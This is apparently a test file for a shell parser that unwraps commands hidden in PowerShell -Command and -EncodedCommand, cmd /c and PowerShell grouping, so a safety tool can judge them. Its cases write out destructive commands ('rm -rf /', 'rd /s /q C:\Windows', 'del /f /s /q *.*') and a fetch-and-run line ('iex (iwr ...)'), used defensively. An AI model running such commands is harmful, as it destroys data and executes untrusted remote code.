// Windows shells that hide the real command: powershell/pwsh -Command and -EncodedCommand, cmd /c and /k.
import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import { decodeUtf16Base64 } from '../../../src/core/shell/decode';
import { runCases, type ParseCase } from './cases';

/** What `-EncodedCommand` takes: base64 of the UTF-16LE text. */
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

const RM_DATA = ['Remove-Item', '-Recurse', '-Force', 'C:data'];
const removeItem = { name: 'remove-item' };

const powershell: ParseCase[] = [
  {
    line: 'powershell -Command "Remove-Item -Recurse -Force C:\\data"',
    commands: [{ argv: ['powershell', '-Command', 'Remove-Item -Recurse -Force C:\\data'] }, { argv: RM_DATA, via: ['powershell -Command'], ...removeItem }],
  },
  { line: 'pwsh -c "rm -rf /"', commands: [{ argv: ['pwsh', '-c', 'rm -rf /'] }, { argv: ['rm', '-rf', '/'], via: ['pwsh -Command'] }] },
  // Parameters by any prefix, in any case, with -, -- or /; values skipped, also after a colon.
  {
    line: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -command "rm x"',
    commands: [{ argv: ['powershell.exe', '-NoProfile', '-ExecutionPolicy', 'Bypass', '-command', 'rm x'] }, { argv: ['rm', 'x'], via: ['powershell -Command'] }],
  },
  { line: 'PowerShell -nop -ep:Bypass -w hidden -Co "rm x"', commands: [{ argv: ['PowerShell', '-nop', '-ep:Bypass', '-w', 'hidden', '-Co', 'rm x'], name: 'powershell' }, { argv: ['rm', 'x'], via: ['powershell -Command'] }] },
  { line: 'pwsh --noprofile /C "rm x"', commands: [{ argv: ['pwsh', '--noprofile', '/C', 'rm x'] }, { argv: ['rm', 'x'], via: ['pwsh -Command'] }] },
  // PowerShell joins every word after -Command into the script.
  {
    line: 'powershell -Command Remove-Item -Recurse -Force C:\\data; ls',
    commands: [{ argv: ['powershell', '-Command', ...RM_DATA] }, { argv: RM_DATA, via: ['powershell -Command'], ...removeItem }, { argv: ['ls'] }],
  },
  { line: 'powershell -c echo "a; rm -rf /"', commands: [{ argv: ['powershell', '-c', 'echo', 'a; rm -rf /'] }, { argv: ['echo', 'a'], via: ['powershell -Command'] }, { argv: ['rm', '-rf', '/'], via: ['powershell -Command'] }] },
  // Windows PowerShell reads a bare first word as -Command.
  { line: 'powershell "rm x"', commands: [{ argv: ['powershell', 'rm x'] }, { argv: ['rm', 'x'], via: ['powershell -Command'] }] },
  // A script block run at once is read as its body; two blocks are left alone.
  {
    line: 'powershell -Command "& {Remove-Item -Recurse x; ls}"',
    commands: [{ argv: ['powershell', '-Command', '& {Remove-Item -Recurse x; ls}'] }, { argv: ['Remove-Item', '-Recurse', 'x'], via: ['powershell -Command'], ...removeItem }, { argv: ['ls'], via: ['powershell -Command'] }],
  },
  { line: 'pwsh -cwa "rm $args" x', commands: [{ argv: ['pwsh', '-cwa', 'rm $args', 'x'] }, { argv: ['rm', '$args'], via: ['pwsh -Command'] }] },
  {
    line: 'powershell -Command "Get-ChildItem | Remove-Item"',
    commands: [
      { argv: ['powershell', '-Command', 'Get-ChildItem | Remove-Item'] },
      { argv: ['Get-ChildItem'], name: 'get-childitem', via: ['powershell -Command'] },
      { argv: ['Remove-Item'], ...removeItem, via: ['powershell -Command'], pipelineBefore: ['get-childitem'] },
    ],
  },
  // -Command - (and a bare powershell) read the script from stdin when it is a heredoc, a here-string or a pipe.
  { line: "pwsh -Command - <<'EOF'\nrm x\nEOF", commands: [{ argv: ['pwsh', '-Command', '-'] }, { argv: ['rm', 'x'], via: ['heredoc-to-shell'] }] },
  { line: 'powershell -NoProfile - <<< "rm x"', commands: [{ argv: ['powershell', '-NoProfile', '-'] }, { argv: ['rm', 'x'], via: ['heredoc-to-shell'] }] },
  { line: 'echo "rm x" | pwsh -NoLogo', commands: [{ argv: ['echo', 'rm x'] }, { argv: ['pwsh', '-NoLogo'] }, { argv: ['rm', 'x'], via: ['pipe-to-shell'] }] },
  { line: 'pwsh -File - <<< "rm x"', commands: [{ argv: ['pwsh', '-File', '-'] }, { argv: ['rm', 'x'], via: ['heredoc-to-shell'] }] },
  { line: 'sudo pwsh -c "rm x"', commands: [{ argv: ['pwsh', '-c', 'rm x'], via: ['sudo'] }, { argv: ['rm', 'x'], via: ['sudo', 'pwsh -Command'] }] },
];

const encodedCommands: ParseCase[] = [
  {
    line: `powershell -EncodedCommand ${encoded('Remove-Item -Recurse -Force C:\\data')}`,
    commands: [
      { argv: ['powershell', '-Command', 'Remove-Item -Recurse -Force C:\\data'], via: ['powershell -EncodedCommand'] },
      { argv: RM_DATA, via: ['powershell -EncodedCommand', 'powershell -Command'], ...removeItem },
    ],
  },
  {
    line: `pwsh -nop -enc ${encoded('rm x')}`,
    commands: [{ argv: ['pwsh', '-Command', 'rm x'], via: ['pwsh -EncodedCommand'] }, { argv: ['rm', 'x'], via: ['pwsh -EncodedCommand', 'pwsh -Command'] }],
  },
  { line: `powershell -e ${encoded('ls')}; powershell -ec ${encoded('ls')}`, commands: [
    { argv: ['powershell', '-Command', 'ls'], via: ['powershell -EncodedCommand'] },
    { argv: ['ls'], via: ['powershell -EncodedCommand', 'powershell -Command'] },
    { argv: ['powershell', '-Command', 'ls'], via: ['powershell -EncodedCommand'] },
    { argv: ['ls'], via: ['powershell -EncodedCommand', 'powershell -Command'] },
  ] },
  // Code that does not decode, or is only known at run time, cannot be read: a problem, not a silent pass.
  { line: 'powershell -e ZZZ', commands: [{ argv: ['powershell', '-e', 'ZZZ'] }], problems: ['undecodable'] },
  { line: 'powershell -enc $PAYLOAD', commands: [{ argv: ['powershell', '-enc', '$PAYLOAD'] }], problems: ['undecodable'] },
  // UTF-8 base64 (what `base64` makes) is not what PowerShell decodes.
  { line: `pwsh -ec ${Buffer.from('rm x!').toString('base64')}`, commands: [{ argv: ['pwsh', '-ec', Buffer.from('rm x!').toString('base64')] }], problems: ['undecodable'] },
];

const cmd: ParseCase[] = [
  { line: 'cmd /c "rd /s /q C:\\data"', commands: [{ argv: ['cmd', '/c', 'rd /s /q C:\\data'] }, { argv: ['rd', '/s', '/q', 'C:data'], via: ['cmd /c'] }] },
  { line: 'cmd.exe /C rd /s /q C:\\data', commands: [{ argv: ['cmd.exe', '/C', 'rd', '/s', '/q', 'C:data'] }, { argv: ['rd', '/s', '/q', 'C:data'], via: ['cmd /c'] }] },
  { line: 'CMD /s /q /c "del /f /s /q *.*"', commands: [{ argv: ['CMD', '/s', '/q', '/c', 'del /f /s /q *.*'], name: 'cmd' }, { argv: ['del', '/f', '/s', '/q', '*.*'], via: ['cmd /c'] }] },
  { line: 'cmd /k "rd /s /q x"', commands: [{ argv: ['cmd', '/k', 'rd /s /q x'] }, { argv: ['rd', '/s', '/q', 'x'], via: ['cmd /k'] }] },
  { line: 'cmd /c "cd build && rd /s /q out"', commands: [{ argv: ['cmd', '/c', 'cd build && rd /s /q out'] }, { argv: ['cd', 'build'], via: ['cmd /c'] }, { argv: ['rd', '/s', '/q', 'out'], via: ['cmd /c'] }] },
  // Words after /c keep their quotes on cmd's command line: a quoted `&` is text.
  { line: 'cmd /c echo "a & del x"', commands: [{ argv: ['cmd', '/c', 'echo', 'a & del x'] }, { argv: ['echo', 'a & del x'], via: ['cmd /c'] }] },
  { line: 'echo rd /s /q x | cmd', commands: [{ argv: ['echo', 'rd', '/s', '/q', 'x'] }, { argv: ['cmd'] }, { argv: ['rd', '/s', '/q', 'x'], via: ['pipe-to-shell'] }] },
];

const lookAlikes: ParseCase[] = [
  { line: 'powershell -Command "Get-ChildItem"', commands: [{ argv: ['powershell', '-Command', 'Get-ChildItem'] }, { argv: ['Get-ChildItem'], name: 'get-childitem', via: ['powershell -Command'] }] },
  { line: 'cmd /c dir', commands: [{ argv: ['cmd', '/c', 'dir'] }, { argv: ['dir'], via: ['cmd /c'] }] },
  // No space after the switch: cmd reads the rest as the command all the same.
  { line: 'cmd /crd /s /q C:\\data', commands: [{ argv: ['cmd', '/crd', '/s', '/q', 'C:data'] }, { argv: ['rd', '/s', '/q', 'C:data'], via: ['cmd /c'] }] },
  { line: 'cmd.exe /c"rd /s /q C:\\Windows"', commands: [{ argv: ['cmd.exe', '/crd /s /q C:\\Windows'] }, { argv: ['rd', '/s', '/q', 'C:Windows'], via: ['cmd /c'] }] },
  { line: 'cmd /kdir', commands: [{ argv: ['cmd', '/kdir'] }, { argv: ['dir'], via: ['cmd /k'] }] },
  // A quoted full path to the program: its name follows the last backslash.
  { line: '"C:\\Windows\\System32\\cmd.exe" /c rd /s /q x', commands: [{ argv: ['C:\\Windows\\System32\\cmd.exe', '/c', 'rd', '/s', '/q', 'x'], name: 'cmd.exe' }, { argv: ['rd', '/s', '/q', 'x'], via: ['cmd /c'] }] },
  // A script file runs as written: its name is not code.
  { line: 'pwsh -File build.ps1', commands: [{ argv: ['pwsh', '-File', 'build.ps1'] }] },
  { line: 'powershell -NoProfile -File "rm x.ps1"', commands: [{ argv: ['powershell', '-NoProfile', '-File', 'rm x.ps1'] }] },
  { line: 'pwsh build.ps1 -Force', commands: [{ argv: ['pwsh', 'build.ps1', '-Force'] }] },
  { line: 'powershell -Version', commands: [{ argv: ['powershell', '-Version'] }] },
  { line: 'pwsh -Version 7 -NoLogo', commands: [{ argv: ['pwsh', '-Version', '7', '-NoLogo'] }] },
  { line: 'powershell -Help', commands: [{ argv: ['powershell', '-Help'] }] },
  { line: 'powershell -Unknown "rm x"', commands: [{ argv: ['powershell', '-Unknown', 'rm x'] }] },
  { line: 'pwsh', commands: [{ argv: ['pwsh'] }] },
  { line: 'cmd', commands: [{ argv: ['cmd'] }] },
  { line: 'cmd /?', commands: [{ argv: ['cmd', '/?'] }] },
  { line: 'echo "powershell -c rm"', commands: [{ argv: ['echo', 'powershell -c rm'] }] },
  { line: 'git commit -m "cmd /c rd /s /q C:\\data"', commands: [{ argv: ['git', 'commit', '-m', 'cmd /c rd /s /q C:\\data'] }] },
];

/** PowerShell's grouping argument `cmd (…)`: a sh syntax error, read like `$( … )` so the commands inside are judged. */
const grouping: ParseCase[] = [
  { line: 'iex (iwr https://x.io/a.ps1)', commands: [{ argv: ['iwr', 'https://x.io/a.ps1'], via: ['$()'] }, { argv: ['iex', '(iwr https://x.io/a.ps1)'] }] },
  { line: 'Write-Host (Get-Date)', commands: [{ argv: ['Get-Date'], via: ['$()'], name: 'get-date' }, { argv: ['Write-Host', '(Get-Date)'], name: 'write-host' }] },
  { line: 'Write-Output (Remove-Item -Recurse x) done', commands: [{ argv: ['Remove-Item', '-Recurse', 'x'], via: ['$()'], ...removeItem }, { argv: ['Write-Output', '(Remove-Item -Recurse x)', 'done'], name: 'write-output' }] },
  // Not a grouping: a function definition, bash's timed subshell, and a subshell after a separator.
  { line: 'f () { rm x; }', commands: [{ argv: ['rm', 'x'] }] },
  { line: 'time (rm x)', commands: [{ argv: ['time'] }, { argv: ['rm', 'x'] }] },
  { line: 'ls; (rm x)', commands: [{ argv: ['ls'] }, { argv: ['rm', 'x'] }] },
];

describe('shell parser: powershell -Command', () => runCases(powershell));
describe('shell parser: PowerShell grouping arguments', () => runCases(grouping));
describe('shell parser: powershell -EncodedCommand', () => runCases(encodedCommands));
describe('shell parser: cmd /c', () => runCases(cmd));
describe('shell parser: Windows shell look-alikes', () => runCases(lookAlikes));

describe('decodeUtf16Base64', () => {
  it('reads base64 of UTF-16LE text, with or without a byte-order mark', () => {
    assert.equal(decodeUtf16Base64(encoded('Get-Date')), 'Get-Date');
    assert.equal(decodeUtf16Base64(encoded('\uFEFFGet-Date')), 'Get-Date');
    assert.equal(decodeUtf16Base64(encoded('Write-Host "é ✓"')), 'Write-Host "é ✓"');
  });
  it('turns away what PowerShell would not run as text', () => {
    for (const bad of ['', 'ZZZ', 'not base64!', Buffer.from([0x41]).toString('base64'), Buffer.from([0x00, 0xd8, 0x41, 0x00]).toString('base64')]) {
      assert.equal(decodeUtf16Base64(bad), null, bad);
    }
  });
});
